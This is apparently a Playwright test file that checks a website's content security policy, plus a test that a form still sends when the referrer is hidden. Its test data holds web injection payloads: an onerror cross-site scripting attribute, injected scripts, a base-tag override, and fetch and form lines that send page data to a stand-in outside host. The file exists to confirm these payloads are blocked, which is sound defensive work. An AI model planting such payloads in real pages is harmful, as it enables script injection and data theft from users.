"""The content policy as the browser keeps it: what somebody smuggles into a page does nothing."""

import pytest
from playwright.sync_api import Browser

from tests.site.trial_site import trial_site, wait_until

pytestmark = [pytest.mark.browser, pytest.mark.database]

ELSEWHERE = "http://127.0.0.1:9"
ADD = "document.body.insertAdjacentHTML('beforeend', `{}`)"
SCRIPT = "let it = document.createElement('script'); it.{}; document.body.append(it)"
SMUGGLED = {
    "a script of its own": SCRIPT.format("textContent = 'ran = 1'"),
    "a script of others": SCRIPT.format(f"src = '{ELSEWHERE}/x.js'"),
    "code in an attribute": ADD.format('<img src=x onerror="ran = 1">'),
    "code in a text": "setTimeout('ran = 1', 0)",
    "a style": ADD.format('<p style="color: red">x</p>'),
    "a picture of others": ADD.format(f'<img src="{ELSEWHERE}/x.png">'),
    "a frame": ADD.format('<iframe src="/ordlista/"></iframe>'),
    "what is read sent on": f"fetch('{ELSEWHERE}/', {{method: 'POST', body: document.title}}).catch(() => 0)",
    "a form to others": (
        ADD.format(f'<form id=f method=post action="{ELSEWHERE}/">') + "; document.getElementById('f').submit()"
    ),
    "another base": f"document.head.insertAdjacentHTML('beforeend', '<base href=\"{ELSEWHERE}/\">')",
}
LISTEN = "seen = []; document.addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective))"


@pytest.mark.parametrize("kind", SMUGGLED)
def test_what_is_smuggled_in_does_nothing(browser: Browser, site: str, kind: str):
    page = browser.new_page()
    page.goto(f"{site}/kvalitetssystemet/")
    page.evaluate(LISTEN)
    page.evaluate(SMUGGLED[kind])
    assert wait_until(lambda: page.evaluate("seen.length") > 0), "the browser said no"
    assert page.evaluate("window.ran") is None and page.url == f"{site}/kvalitetssystemet/"
    page.close()


def test_a_form_on_a_page_whose_address_is_hidden_can_still_be_sent(browser: Browser):
    """With no referrer at all the browser would send no origin either, and the form would be taken for a forged one."""
    with trial_site() as trial:
        page = browser.new_page()
        heard = []
        page.on("request", lambda request: heard.append(request.all_headers()))
        page.goto(f"http://localhost:{trial.port}/inbjudan/trial/")
        page.get_by_role("button", name="Skicka").click()
        assert "skickat" in page.inner_text("body")
        assert not [headers for headers in heard if "inbjudan" in headers.get("referer", "")]
        page.close()
